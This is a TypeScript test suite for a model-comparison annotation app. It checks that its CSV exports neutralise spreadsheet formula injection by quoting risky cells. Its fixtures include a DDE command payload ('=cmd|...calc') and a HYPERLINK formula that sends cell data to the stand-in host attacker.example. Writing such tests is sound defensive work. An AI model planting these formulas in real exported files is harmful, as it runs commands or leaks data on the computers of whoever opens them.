import { parse as parseCsv } from "csv-parse/sync";
import request from "supertest";
import { afterEach, describe, expect, it } from "vitest";
import { CampaignResponseSchema } from "../../shared/schemas/campaigns";
import { hashPassword } from "../../server/auth/password";
import { bootstrapEmptyDatabase } from "../../server/bootstrap";
import { annotationQueue } from "../../server/campaigns/queue";
import { csvCell } from "../../server/export/csv-cell";
import { password, testApp, type TestApp } from "../helpers/test-app";

let t: TestApp;
afterEach(() => t?.close());

// Cells a spreadsheet could take for a formula: OWASP's = + - @ tab CR, the same after leading white space
// (some importers trim it), and their full-width forms (read as formulas by Excel in CJK locales).
const formulas = [
  "=1+1",
  "+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://attacker.example/?leak="&A1,"click")',
  "   =1+1",
  " \t@SUM(1)",
  "\u3000=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "-1,2\n=3",
  '@x, "quoted"\r\nnext line',
];
// Cells that must come out exactly as they went in.
const inert = ["plain", "'=already quoted", '"=1+1" in quotes', "a=1", "1-2", "mid, comma", 'mid "quote"'];
const values = [...formulas, ...inert];

/** What the file must hold for a value: the value, behind a single quote when it could be a formula. */
const expected = (value: string) => (formulas.includes(value) ? `'${value}` : value);
const looksLikeFormula = (cell: string) => /^(?:[\t\r]|\s*[=+\-@＝＋－＠])/.test(cell);

/**
 * A set whose instructions' external ids and categories are those values, two models named like
 * formulas (created over the API, which takes any name), a custom campaign A vs B, and annotators named
 * like formulas; every annotator judges every comparison.
 */
async function hostileCampaign() {
  t = testApp();
  await bootstrapEmptyDatabase(t.ctx, { adminPassword: password, demo: false, print: () => {} });
  const admin = request.agent(t.app);
  await admin.post("/api/auth/login").send({ username: "admin", password }).expect(200);

  const ids = values.map((_, i) => `i${i}`);
  const lines = ids.map((id) => JSON.stringify({ id, prompt: `=SUM(A1:A9) write ${id}`, lang: "en" }));
  const set = (
    await admin
      .post("/api/instruction-sets/import")
      .send({ name: "=set", format: "jsonl", content: lines.join("\n") })
      .expect(201)
  ).body as { set: { id: number } };
  const models = ['=HYPERLINK("https://attacker.example","model a")', "＠model b"];
  const outputs = models.flatMap((model) => ids.map((id) => JSON.stringify({ instruction_id: id, model, text: `@output of ${id}` })));
  await admin
    .post("/api/outputs/import")
    .send({ set_id: set.set.id, format: "longpref", content: outputs.join("\n") })
    .expect(201);
  // The importer trims ids and categories; the stored values are set here exactly, white space included.
  values.forEach((value, i) =>
    t.db
      .prepare("UPDATE instructions SET external_id = ?, category = ? WHERE external_id = ?")
      .run(value, values[(i + 1) % values.length], ids[i]),
  );

  // The API takes usernames of letters, digits, _ . - only: "-cmd" passes; the rest stand for accounts
  // written before the rules or by hand.
  await admin.post("/api/users").send({ username: "-cmd", role: "annotator", password }).expect(201);
  const hash = await hashPassword(password);
  const others = ["=1+1", "+1", "@SUM(1+1)", "\t=1+1", "   =1+1", "＝1+1"].map((name) =>
    t.ctx.users.create(name, "annotator", hash, new Date()),
  );
  const annotators = [t.ctx.users.findByName("-cmd")!, ...others];

  const [a, b] = models.map((m) => t.ctx.models.findByName(m)!.id);
  const res = await admin
    .post("/api/campaigns")
    .send({
      name: "=campaign",
      set_id: set.set.id,
      source: { kind: "custom", model_a_id: a, model_b_id: b },
      annotators: "all",
      settings: { judgments_per_comparison: annotators.length },
    })
    .expect(201);
  const campaign = CampaignResponseSchema.parse(res.body).campaign;
  const queue = annotationQueue(t.ctx);
  let key = 0;
  for (const user of annotators) {
    for (let item = queue.next(campaign.id, user); item; item = queue.next(campaign.id, user)) {
      const verdict = (["left", "right", "tie", "both-bad"] as const)[key % 4]!;
      queue.submit(item.assignment_id, user, {
        verdict,
        rationale: "=1+1 because",
        time_ms: 1000,
        coverage_left: 1,
        coverage_right: 1,
        idempotency_key: `csv-key-${++key}`,
      });
    }
  }
  return { admin, campaign, models, annotators: annotators.map((u) => u.username), judgments: key };
}

/** A download's body as text (JSON Lines too: buffered, whatever its content type). */
const download = async (agent: ReturnType<typeof request.agent>, query: Record<string, string>) =>
  (await agent.get("/api/exports").query(query).buffer(true).expect(200)).text;

describe("CSV exports against formula injection", () => {
  it("GET /api/exports battles-csv: every cell that could be a formula starts with a single quote, and the rest of its text is intact", async () => {
    const { admin, campaign, models, annotators, judgments } = await hostileCampaign();
    const csv = await download(admin, { from: "battles", campaign: String(campaign.id), format: "battles-csv" });
    const records = parseCsv(csv, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(judgments);
    expect(judgments).toBe(values.length * annotators.length);

    // No cell could be read as a formula, whatever column it is in.
    const cells = records.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => looksLikeFormula(c))).toEqual([]);
    // Each value came back exactly, behind one quote when it needed one: categories per instruction,
    // models and annotators as columns.
    const categoryOf = new Map(values.map((v, i) => [expected(v), expected(values[(i + 1) % values.length]!)]));
    for (const r of records) expect(r.category).toBe(categoryOf.get(r.instruction_id!));
    expect(new Set(records.map((r) => r.instruction_id))).toEqual(new Set(values.map(expected)));
    expect(new Set(records.map((r) => r.model_a))).toEqual(new Set([`'${models[0]}`]));
    expect(new Set(records.map((r) => r.model_b))).toEqual(new Set([`'${models[1]}`]));
    expect(new Set(records.map((r) => r.annotator))).toEqual(new Set(annotators.map((u) => `'${u}`)));
    expect(new Set(records.map((r) => r.winner))).toEqual(new Set(["model_a", "model_b", "tie", "both_bad"]));
    const quoted = cells.filter((c) => c.startsWith("'") && !inert.includes(c)).length;
    expect(quoted).toBe(
      records.length * 5 -
        records.filter((r) => inert.includes(r.instruction_id!)).length -
        records.filter((r) => inert.includes(r.category!)).length,
    );
    console.log(
      `csv injection: ${cells.length} cells in ${records.length} records checked, ${quoted} neutralised, ${cells.length - quoted} left as they were`,
    );

    // JSON Lines is no spreadsheet format: the same values come out untouched there.
    const jsonl = await download(admin, { from: "battles", campaign: String(campaign.id), format: "battles-jsonl" });
    const battles = jsonl
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, string>);
    expect(new Set(battles.map((b) => b.annotator))).toEqual(new Set(annotators));
    expect(new Set(battles.map((b) => b.instruction_id))).toEqual(new Set(values));
  });

  it("leaves numbers as numbers: a negative score or margin is data longpref wrote, not a formula", () => {
    expect([-2.5, -0.1, 3, 0].map(csvCell)).toEqual(["-2.5", "-0.1", "3", "0"]);
    // The same text from a user is neutralised.
    expect(["-2.5", "+3"].map(csvCell)).toEqual(["'-2.5", "'+3"]);
    expect(csvCell(null)).toBe("");
  });
});
